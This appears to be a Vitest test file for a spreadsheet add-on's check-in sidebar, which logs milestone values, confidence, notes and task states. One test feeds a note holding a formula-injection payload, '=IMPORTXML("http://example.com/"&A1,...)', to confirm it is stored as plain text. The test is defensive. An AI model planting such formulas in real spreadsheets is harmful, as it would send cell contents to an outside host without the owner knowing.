import { describe, expect, it } from 'vitest';
import type {
  CheckInBatch,
  CheckInOpened,
  CheckInSaved,
  MineShown,
} from '../../../src/addon/sidebars/check-in-contract';
import type { Explained } from '../../../src/addon/sidebars/why-contract';
import { serialOfDay } from '../../../src/plan/day';
import { copyWorkbook } from '../../../src/preview/copy-workbook';
import { cellAt } from '../../../src/preview/workbook';
import { day } from '../../plan/plan-rows';
import { Example, PRIYA } from '../../sidebars/example';

const open = (example: Example, who = '') => example.ask('openCheckIn', { who }).value as CheckInOpened;
const save = (example: Example, batch: Partial<CheckInBatch>) =>
  example.ask('saveCheckIn', { who: 'Ingrid Solvang', work: [], tasks: [], ...batch }).value as CheckInSaved;
const logged = (example: Example, count: number) =>
  example
    .rows('Check-ins')
    .slice(-count)
    .map(({ cells }) => cells);

describe('opening', () => {
  it('knows who is signed in, and shows what is theirs and has begun', async () => {
    const example = await Example.open();
    const { me, who, work, tasks } = open(example);
    expect([me, who]).toEqual(['Ingrid Solvang', 'Ingrid Solvang']);
    expect(work.map(({ id }) => id)).toEqual(['M4', 'M2', 'G1']);
    expect(tasks.map(({ id }) => id)).toEqual(['T13']);
  });

  it('shows the last value, what is expected today, and the chart of both', async () => {
    const example = await Example.open();
    const m2 = open(example).work.find(({ id }) => id === 'M2')!;
    expect(m2).toMatchObject({
      isMeasured: true,
      last: '22',
      lastOn: '23 Nov',
      lastConfidence: 'Amber',
      expected: '30',
      target: '40',
    });
    expect(m2.chart!.reports[m2.chart!.reports.length - 1]).toEqual({ on: '2026-11-23', value: 22 });
    expect(m2.chart!.plan[0]!.value).toBe(0);
    expect(m2.chart!.plan[m2.chart!.plan.length - 1]!.value).toBe(40);
  });

  it.each([
    ['Contracts', '0', '1', '0.5', { metric: 'Contracts', target: '1', last: '0.5', expected: '0.8' }],
    ['Rooms painted', '0%', '100%', '50%', { metric: '', target: '100 %', last: '50 %', expected: '75 %' }],
    ['% of rooms', '0', '1', '0.5', { metric: '', target: '100 %', last: '50 %' }],
  ])('takes %s from %s to %s for what its sheet says', async (metric, baseline, target, current, shown) => {
    const example = await Example.open();
    const { row } = example.row('Milestones', 'M2');
    example.script.hand().paste(`Milestones!E${row}`, [[metric, baseline, target, current]]);
    expect(open(example).work.find(({ id }) => id === 'M2')).toMatchObject(shown);
    const { reasons } = (example.ask('explain', { itemId: 'M2' }).value as Explained).item!;
    const lifts = reasons.map(({ lift }) => lift).join(' ');
    expect(lifts.includes(' of 1 (')).toBe(shown.target === '1');
  });

  it('knows on a Saturday what was said on it, which counts on the Monday after', async () => {
    const example = await Example.open({ now: () => new Date('2026-11-28T12:00:00Z') });
    save(example, { work: [{ id: 'M2', value: '24', confidence: 'Red', note: 'Two more.' }] });
    const m2 = open(example).work.find(({ id }) => id === 'M2')!;
    expect(m2).toMatchObject({ last: '24', lastOn: '28 Nov', lastConfidence: 'Red', isFresh: true });
    expect(m2.chart!.reports.slice(-1)).toEqual([{ on: '2026-11-28', value: 24 }]);
    const { item } = example.ask('explain', { itemId: 'M2' }).value as Explained;
    expect(item!.checkIns[0]).toMatchObject({ on: '28 Nov', value: '24', note: 'Two more.' });
  });

  it('asks once who somebody is whose address is hidden', async () => {
    const example = await Example.open({ user: '' });
    expect(open(example)).toMatchObject({ me: '', who: '', work: [] });
    expect(example.ask('rememberMe', { name: 'Mei Tanaka' }).value).toMatchObject({ me: 'Mei Tanaka' });
    expect(open(example)).toMatchObject({ me: 'Mei Tanaka', who: 'Mei Tanaka' });
  });
});

describe('saving', () => {
  it('logs values, confidence and notes, brings Current up to date, and the statuses follow', async () => {
    const example = await Example.open();
    const { saved, problems } = save(example, {
      work: [
        { id: 'M2', value: '33', confidence: 'Green', note: 'All back.' },
        { id: 'M4', value: '', confidence: 'Red', note: '' },
      ],
    });
    expect(problems).toEqual([]);
    expect(saved.map(({ id }) => id)).toEqual(['M2', 'M4']);
    expect(example.row('Milestones', 'M2').cells.Current).toBe(33);
    expect(logged(example, 2)).toEqual([
      expect.objectContaining({
        When: serialOfDay(day('2026-11-23')),
        Item: 'M2 · Move forty clients to the new monitoring',
        By: 'Ingrid Solvang',
        Value: 33,
        Confidence: 'Green',
        Note: 'All back.',
      }),
      expect.objectContaining({ Value: '', Confidence: 'Red' }),
    ]);
    expect(saved[0]!.status).toBe('Green');
  });

  it('logs a value once: the next refresh finds nothing new in it', async () => {
    const example = await Example.open();
    save(example, { work: [{ id: 'M2', value: '33', confidence: '', note: '' }] });
    const count = example.rows('Check-ins').length;
    example.script.run('refreshStatus');
    expect(example.rows('Check-ins')).toHaveLength(count);
  });

  it('marks tasks done, blocked or moved, and logs what was not done', async () => {
    const example = await Example.open();
    save(example, {
      tasks: [
        { id: 'T13', answer: 'done', due: '', note: '' },
        { id: 'T8', answer: 'blocked', due: '', note: 'No access.' },
        { id: 'T23', answer: 'move', due: '2026-12-04', note: 'Exam dates' },
        { id: 'T37', answer: 'not done', due: '', note: '' },
      ],
    });
    expect(example.row('Tasks', 'T13').cells).toMatchObject({
      State: 'Done',
      'Done on': serialOfDay(day('2026-11-23')),
    });
    expect(example.row('Tasks', 'T8').cells.State).toBe('Blocked');
    expect(example.row('Tasks', 'T23').cells.Due).toBe(serialOfDay(day('2026-12-04')));
    expect(logged(example, 4).map(({ Note }) => Note)).toEqual([
      'Done.',
      'Blocked. No access.',
      'Moved from 27 Nov to 4 Dec. Exam dates',
      'Not done yet.',
    ]);
  });

  it('records who checked in for somebody else', async () => {
    const example = await Example.open({ user: PRIYA });
    save(example, { work: [{ id: 'M2', value: '30', confidence: '', note: 'By phone.' }] });
    expect(logged(example, 1)[0]).toMatchObject({
      By: 'Priya Raman',
      Note: 'On behalf of Ingrid Solvang. By phone.',
    });
  });

  it('saves nothing where a value cannot be read, and says which', async () => {
    const example = await Example.open();
    const before = copyWorkbook(example.addOn.workbook);
    const { problems, saved } = save(example, {
      work: [
        { id: 'M2', value: 'nearly', confidence: '', note: '' },
        { id: 'M4', value: '9', confidence: '', note: '' },
      ],
    });
    expect(problems).toEqual([
      { id: 'M2', field: 'value', message: expect.stringContaining('"nearly" is not a number') },
    ]);
    expect(saved).toEqual([]);
    expect(example.addOn.workbook).toEqual(before);
  });

  it('names rows that were deleted meanwhile, and saves the others', async () => {
    const example = await Example.open();
    example.deleteRow('Milestones', 'M4');
    const { gone, saved } = save(example, {
      work: [
        { id: 'M4', value: '9', confidence: '', note: '' },
        { id: 'M2', value: '30', confidence: '', note: '' },
      ],
    });
    expect(gone).toEqual(['M4']);
    expect(saved.map(({ id }) => id)).toEqual(['M2']);
    expect(example.row('Milestones', 'M2').cells.Current).toBe(30);
  });

  it("leaves a cell that holds somebody's formula to it", async () => {
    const example = await Example.open();
    const { row } = example.row('Milestones', 'M2');
    example.script.hand().type(`Milestones!H${row}`, '=11+11');
    const { held } = save(example, { work: [{ id: 'M2', value: '30', confidence: '', note: '' }] });
    expect(held).toEqual([`Milestones!H${row} holds a formula, which decides it.`]);
    expect(example.cell('Milestones', 'M2', 'Current').formula).toBe('=11+11');
  });

  it("leaves a cell that another cell's formula fills, and says so", async () => {
    const example = await Example.open();
    const { row } = example.row('Milestones', 'M2');
    const top = example.row('Milestones', 'M1');
    const sheet = example.sheet('Milestones');
    const source = cellAt(sheet, top.row, 8)!;
    source.formula = '=ARRAYFORMULA(F2:F17*2)';
    const filled = cellAt(sheet, row, 8)!;
    filled.spilled = true;
    const { held, saved } = save(example, {
      work: [{ id: 'M2', value: '30', confidence: 'Green', note: '' }],
    });
    expect(held).toEqual([
      `Milestones!H${row} is filled by the formula in Milestones!H${top.row}, which decides it.`,
    ]);
    expect(saved.map(({ id }) => id)).toEqual(['M2']);
    expect([source.value, filled.value, filled.spilled]).toEqual([3, 22, true]);
    expect(logged(example, 1)[0]).toMatchObject({ Value: '', Confidence: 'Green' });
  });

  it('is taken back by Undo', async () => {
    const example = await Example.open();
    const before = ['Milestones', 'Tasks', 'Check-ins'].map(name => example.rows(name));
    const { undo } = save(example, {
      work: [{ id: 'M2', value: '30', confidence: 'Green', note: '=1+1' }],
      tasks: [{ id: 'T13', answer: 'done', due: '', note: '' }],
    });
    example.ask('undoAction', undo);
    expect(['Milestones', 'Tasks', 'Check-ins'].map(name => example.rows(name))).toEqual(before);
  });

  it('keeps a note that looks like a formula as a note', async () => {
    const example = await Example.open();
    const note = '=IMPORTXML("http://example.com/"&A1,"//a")';
    save(example, { work: [{ id: 'M2', value: '', confidence: 'Green', note }] });
    const { row } = example.rows('Check-ins').pop()!;
    const cell = example.sheet('Check-ins').rows[row - 1]!.find(each => String(each?.value).startsWith('='))!;
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(note);
  });
});

describe('showing what is mine', () => {
  const show = (example: Example, who: string) => example.ask('showMine', { who }).value as MineShown;
  const firstCells = (example: Example, name: string) =>
    Array.from(example.sheet(name).rows, cells =>
      String(cells?.[1]?.formula || cells?.[1]?.value || cells?.[0]?.value || ''),
    );

  it('writes Red rows, then what is due, then the rest to a sheet of that person, and opens it', async () => {
    const example = await Example.open();
    const { text } = show(example, 'Ingrid Solvang');
    expect(text).toBe('Ingrid Solvang: 1 Red, 3 more open.');
    expect(example.selected).toMatch(/^Items of Ingrid Solvang/);
    const cells = firstCells(example, 'Items of Ingrid Solvang');
    const places = ['What is Red', 'M2 · Move forty clients to the new monitoring', 'The rest'].map(each =>
      cells.findIndex(cell => cell.includes(each)),
    );
    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places).not.toContain(-1);
    expect(cells.join(' ')).not.toContain('M5 · ');
    const { columnWidths } = example.sheet('Items of Ingrid Solvang');
    // in sight beside the sidebar on a laptop of 1280 pixels
    expect([...columnWidths.values()].reduce((sum, each) => sum + each)).toBeLessThanOrEqual(920);
  });

  it('leaves the tables, and what is shown to anybody else, as they are', async () => {
    const example = await Example.open();
    show(example, 'Priya Raman');
    const before = structuredClone(example.addOn.workbook.sheets);
    show(example, 'Ingrid Solvang');
    for (const sheet of before.filter(({ hidden }) => !hidden))
      expect(example.addOn.workbook.sheets.find(({ id }) => id === sheet.id)).toEqual(sheet);
  });

  it('writes it anew the next time, and Undo takes that back', async () => {
    const example = await Example.open();
    show(example, 'Ingrid Solvang');
    const before = firstCells(example, 'Items of Ingrid Solvang');
    save(example, { work: [{ id: 'M2', value: '33', confidence: 'Green', note: '' }] });
    const { undo } = show(example, 'Ingrid Solvang');
    const count = example.addOn.workbook.sheets.filter(({ name }) => name.startsWith('Items of')).length;
    expect(count).toBe(1);
    expect(firstCells(example, 'Items of Ingrid Solvang')).not.toEqual(before);
    example.ask('undoAction', undo);
    expect(firstCells(example, 'Items of Ingrid Solvang')).toEqual(before);
  });

  it('says where nothing is open, whatever the name is', async () => {
    const example = await Example.open();
    const who = `=${'long '.repeat(30)}name`;
    expect(show(example, who).text).toBe(`Nothing is open for ${who}.`);
  });
});
